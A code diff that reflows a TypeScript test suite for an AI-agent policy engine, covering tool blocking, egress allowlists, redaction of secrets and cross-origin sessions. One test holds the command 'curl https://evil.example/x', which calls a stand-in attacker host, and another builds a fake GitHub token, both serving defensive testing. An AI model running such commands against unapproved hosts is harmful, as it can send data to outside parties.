@@ -9,7 +9,12 @@ import { actionOf, compiled, resolved, understanding } from './support.ts';
 
 const SLACK: JsonObject = { provider: 'slack', space_id: 'C1', visibility: 'internal' };
 
-function asked(policy: string, fields: Partial<Action> & { readonly kind: string }, kept?: OriginMemory, claim: JsonObject = SLACK): OriginAnswer {
+function asked(
+  policy: string,
+  fields: Partial<Action> & { readonly kind: string },
+  kept?: OriginMemory,
+  claim: JsonObject = SLACK,
+): OriginAnswer {
   const { origins } = compiled(policy);
   if (origins === undefined) throw new Error('the policy has no origins');
   const action = actionOf({ origin: { origin: claim }, ...fields });
@@ -18,7 +23,11 @@ function asked(policy: string, fields: Partial<Action> & { readonly kind: string
 
 const codes = ({ objections }: OriginAnswer): readonly string[] => objections.map(({ code }) => code);
 const one = (profile: string, rest = ''): string => `origins: {profiles: [{id: a${profile === '' ? '' : `, ${profile}`}}${rest}]}\n`;
-const call = (tool: string, params: JsonObject = {}): { kind: string; tool: string; params: JsonObject } => ({ kind: 'mcp.call', tool, params });
+const call = (tool: string, params: JsonObject = {}): { kind: string; tool: string; params: JsonObject } => ({
+  kind: 'mcp.call',
+  tool,
+  params,
+});
 
 describe('POL-304 an action without a place is denied', () => {
   it.each([
@@ -43,7 +52,9 @@ describe('POL-304 an action without a place is denied', () => {
     expect(codes(asked('origins: {}\n', call('x')))).toEqual(['origin_unknown']);
     const minimal = 'origins: {default_behavior: minimal_profile}\n';
     expect(codes(asked(minimal, call('x')))).toEqual(['tool_blocked_by_default']);
-    expect(codes(asked(minimal, { kind: 'shell.exec', tool: 'shell.exec', params: { command: 'ls' } }))).toEqual(['tool_blocked_by_default']);
+    expect(codes(asked(minimal, { kind: 'shell.exec', tool: 'shell.exec', params: { command: 'ls' } }))).toEqual([
+      'tool_blocked_by_default',
+    ]);
     expect(codes(asked(minimal, { kind: 'file.read', params: { path: '/a' } }))).toEqual([]);
     expect(codes(asked(minimal, { kind: 'agent.message', content: 'mail jo@example.org' }))).toEqual(['sensitive_output']);
     expect(asked(minimal, { kind: 'file.read', params: { path: '/a' } }).profile).toEqual({ id: '', by: 'default' });
@@ -63,13 +74,13 @@ describe('POL-305 tools and hosts of a profile', () => {
       'tool_blocked',
       '',
     ]);
-    expect(tools('require_confirmation: ["roll*"], default_action: allow', 'rollback_db', 'other')).toEqual(['tool_needs_confirmation', '']);
-    expect(tools('allow: ["docs.*", search.query], default_action: block', 'docs.read', 'search_query', 'search.other', 'mcp__s__docs.read')).toEqual([
+    expect(tools('require_confirmation: ["roll*"], default_action: allow', 'rollback_db', 'other')).toEqual([
+      'tool_needs_confirmation',
       '',
-      '',
-      'tool_not_allowed',
-      'tool_not_allowed',
     ]);
+    expect(
+      tools('allow: ["docs.*", search.query], default_action: block', 'docs.read', 'search_query', 'search.other', 'mcp__s__docs.read'),
+    ).toEqual(['', '', 'tool_not_allowed', 'tool_not_allowed']);
     expect(tools('allow: ["*"], block: [x]', 'y', 'x')).toEqual(['', 'tool_blocked']);
     expect(tools('allow: ["*"], require_confirmation: [x]', 'x')).toEqual(['tool_needs_confirmation']);
     expect(tools('default_action: block', 'y')).toEqual(['tool_blocked_by_default']);
@@ -106,7 +117,9 @@ describe('POL-305 tools and hosts of a profile', () => {
 
   it('commands reach hosts too', () => {
     const command = 'curl https://evil.example/x';
-    expect(codes(asked(one('egress: {allow: [a.example]}'), { kind: 'shell.exec', params: { command } }))).toEqual(['egress_not_in_allowlist']);
+    expect(codes(asked(one('egress: {allow: [a.example]}'), { kind: 'shell.exec', params: { command } }))).toEqual([
+      'egress_not_in_allowlist',
+    ]);
   });
 });
 
@@ -117,7 +130,13 @@ describe('POL-306 what leaves through an origin', () => {
   const TOKEN = `gh${'p_'}R7kQ2vX9mB4tLw8ZcN1s${'Yf6HdJ3pGa5uKe0T'}`;
 
   it('nothing is sent where others can see it, unless it may be shared; a place that does not say counts as seen', () => {
-    for (const claim of [{ visibility: 'public' }, { visibility: 'external_shared' }, { visibility: 'unknown' }, {}, { visibility: 'internal', external_participants: true }]) {
+    for (const claim of [
+      { visibility: 'public' },
+      { visibility: 'external_shared' },
+      { visibility: 'unknown' },
+      {},
+      { visibility: 'internal', external_participants: true },
+    ]) {
       const there = { provider: 'slack', ...claim };
       expect([claim, codes(send('', 'hello', there))]).toEqual([claim, ['external_sharing']]);
       expect(codes(send('allow_external_sharing: true', 'hello', there))).toEqual([]);
@@ -132,7 +151,10 @@ describe('POL-306 what leaves through an origin', () => {
       const said = (flags: string, content: string): OriginAnswer => asked(data(flags), { kind, content });
       expect(codes(said('block_sensitive_outputs: true', `use ${TOKEN} now`))).toEqual(['sensitive_output']);
       const [objection] = said('redact_before_send: true', `use ${TOKEN} now, or ask jo@example.org`).objections;
-      expect(objection).toMatchObject({ code: 'redaction_required', sanitized: 'use [REDACTED:github_token] now, or ask [REDACTED:email]' });
+      expect(objection).toMatchObject({
+        code: 'redaction_required',
+        sanitized: 'use [REDACTED:github_token] now, or ask [REDACTED:email]',
+      });
       expect(codes(said('redact_before_send: true', objection?.sanitized ?? ''))).toEqual([]);
       expect(codes(said('redact_before_send: true', 'nothing special'))).toEqual([]);
       expect(codes(said('', `use ${TOKEN} now`))).toEqual([]);
@@ -189,7 +211,8 @@ describe('POL-307 budgets and states of a profile', () => {
     expect(after?.counts).toEqual({ 'origin/a/mcp_tool_calls': 1, 'origin/a/shell_commands': 1 });
   });
 
-  const POSTURE = 'posture: {initial: high, states: {high: {capabilities: [shell, mcp_tool]}, low: {capabilities: [mcp_tool], budgets: {mcp_tool_calls: 1}}}}\n';
+  const POSTURE =
+    'posture: {initial: high, states: {high: {capabilities: [shell, mcp_tool]}, low: {capabilities: [mcp_tool], budgets: {mcp_tool_calls: 1}}}}\n';
   it('the state of a profile takes away and gives nothing: its capabilities and the tighter of both budgets', () => {
     const policy = one('posture: low, budgets: {mcp_tool_calls: 5}') + POSTURE;
     expect(asked(policy, { kind: 'shell.exec', params: { command: 'ls' } }).objections).toMatchObject([
@@ -216,7 +239,10 @@ describe('POL-307 budgets and states of a profile', () => {
 describe('POL-308 a session that goes on in another place', () => {
   const GITHUB: JsonObject = { provider: 'github', space_type: 'pull_request', visibility: 'internal' };
   const policy = (bridge: string): string =>
-    one(`match_rules: {provider: slack}${bridge === '' ? '' : `, bridge_policy: {${bridge}}`}`, ', {id: b, match_rules: {provider: github}}');
+    one(
+      `match_rules: {provider: slack}${bridge === '' ? '' : `, bridge_policy: {${bridge}}`}`,
+      ', {id: b, match_rules: {provider: github}}',
+    );
   const from = (bridge: string, claim: JsonObject): OriginAnswer => {
     const { after } = asked(policy(bridge), call('x'));
     return asked(policy(bridge), call('x'), { ...after }, claim);
@@ -257,7 +283,9 @@ describe('POL-308 a session that goes on in another place', () => {
   it('a profile that the policy no longer has lets no session go', () => {
     const kept = { origin: { at: '0'.repeat(32), profile: 'gone' } };
     expect(codes(asked(policy('allow_cross_origin: true'), call('x'), kept))).toEqual(['cross_origin']);
-    expect(codes(asked(policy('allow_cross_origin: true'), call('x'), { origin: { at: '0'.repeat(32), profile: '' } }))).toEqual(['cross_origin']);
+    expect(codes(asked(policy('allow_cross_origin: true'), call('x'), { origin: { at: '0'.repeat(32), profile: '' } }))).toEqual([
+      'cross_origin',
+    ]);
   });
 });
 
